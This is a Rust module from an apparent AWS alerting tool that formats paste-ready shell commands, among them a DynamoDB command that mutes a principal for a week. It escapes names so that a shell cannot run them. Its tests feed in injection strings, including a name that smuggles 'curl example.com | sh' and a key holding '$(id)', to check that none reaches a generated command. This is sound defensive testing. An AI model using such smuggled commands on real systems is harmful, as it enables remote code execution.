//! Shell commands in an alert, ready to paste.

use std::fmt::Write;

use super::Deployment;
use crate::detection::finding::Finding;
use crate::detection::window::SECONDS_PER_WEEK;
use crate::text::Text;

/// A mute lasts a week.
const MUTE_SECONDS: i64 = SECONDS_PER_WEEK;

/// Columns of an alert's text.
pub(super) const WIDTH: usize = 72;

/// A command of several words, broken over lines that a shell reads as one.
///
/// A quoted word may itself go over several lines: no backslash belongs inside it.
pub(super) fn command(indent: &str, words: &[impl AsRef<str>]) -> String {
    const CONTINUED: &str = " \\";
    let mut text = String::new();
    let mut line = indent.to_owned();
    for (i, word) in words.iter().enumerate() {
        let mut parts = word.as_ref().split('\n');
        let first = parts.next().unwrap_or_default();
        if i > 0 && line.len() + 1 + first.len() + CONTINUED.len() > WIDTH {
            let _ = writeln!(text, "{line}{CONTINUED}");
            line = format!("{indent}  {first}");
        } else {
            line.push_str(if i > 0 { " " } else { "" });
            line.push_str(first);
        }
        for part in parts {
            let _ = writeln!(text, "{line}");
            line = format!("{indent}  {part}");
        }
    }
    let _ = writeln!(text, "{line}");
    text
}

/// A name as a shell word, or a word to fill in if the name could mean something else
/// to a shell, to AWS or to a mail program.
pub(super) fn word(name: Option<&Text>, placeholder: &str) -> String {
    match name {
        Some(name) if name.is_plain() => name.to_string(),
        _ => placeholder.to_owned(),
    }
}

/// Epoch seconds until which [`mute`] silences the principal.
pub(super) fn muted_until(finding: &Finding) -> i64 {
    finding.last_denial.saturating_add(MUTE_SECONDS)
}

/// Words of the command that mutes the principal of a finding. Its condition keeps a key that
/// was not copied whole from making an item that is nobody's.
pub(super) fn mute(finding: &Finding, deployment: &Deployment) -> [String; 8] {
    let key = json_text(finding.principal.principal.key());
    let until = muted_until(finding);
    [
        "aws dynamodb update-item".to_owned(),
        format!("--region {}", deployment.region_word(finding)),
        format!("--table-name {}", deployment.table()),
        format!("--key '{{\"principal\":{{\"S\":\"{key}\"}}}}'"),
        "--update-expression 'SET muted_until = :until ADD version :one'".to_owned(),
        "--condition-expression 'attribute_exists(principal)'".to_owned(),
        "--expression-attribute-values".to_owned(),
        format!("'{{\":until\":{{\"N\":\"{until}\"}},\":one\":{{\"N\":\"1\"}}}}'"),
    ]
}

/// A text inside a JSON string inside single quotes, exactly. All that a shell, a mail program
/// or a chat could take for something else is a JSON escape, which means the same.
fn json_text(text: &Text) -> String {
    let mut escaped = String::with_capacity(text.as_str().len());
    for c in text.as_str().chars() {
        let is_safe = c.is_ascii_alphanumeric() || "#:_-/+=,".contains(c);
        if is_safe && !(c == '/' && escaped.ends_with('/')) {
            escaped.push(c);
        } else {
            let _ = write!(escaped, "\\u{:04x}", u32::from(c));
        }
    }
    escaped
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_command_continues_on_the_next_line() {
        let text = command(
            "  ",
            &[
                "aws cloudtrail lookup-events",
                "--region eu-west-1",
                "--start-time 2026-01-01T00:00:00Z",
                "--max-items 50",
            ],
        );
        assert_eq!(
            text,
            "  aws cloudtrail lookup-events --region eu-west-1 \\\n    \
             --start-time 2026-01-01T00:00:00Z --max-items 50\n"
        );
    }

    #[test]
    fn a_quoted_word_goes_on_without_a_backslash() {
        let text = command("", &["aws iam put-role-policy", "--policy-document", "'{\n}'", "-x"]);
        assert_eq!(text, "aws iam put-role-policy --policy-document '{\n  }' -x\n");
    }

    #[test]
    fn a_key_reads_back_from_its_escapes() {
        let key =
            Text::new("111122223333#it's `$(id)` \"x\" \\u0041 jane@www.example.com http://x", 256);
        let escaped = json_text(&key);
        assert!(escaped.bytes().all(|b| b.is_ascii_alphanumeric() || b"#:_-/+=,\\".contains(&b)));
        assert_eq!(
            serde_json::from_str::<String>(&format!("\"{escaped}\"")).unwrap(),
            key.as_str()
        );
    }

    #[test]
    fn a_name_that_a_shell_would_run_never_reaches_a_command() {
        let hostile = Text::new("x'; curl example.com | sh; '", 99);
        assert_eq!(word(Some(&hostile), "NAME"), "NAME");
        assert_eq!(word(Some(&Text::new("ci-deploy", 99)), "NAME"), "ci-deploy");
        assert_eq!(word(None, "NAME"), "NAME");
    }
}
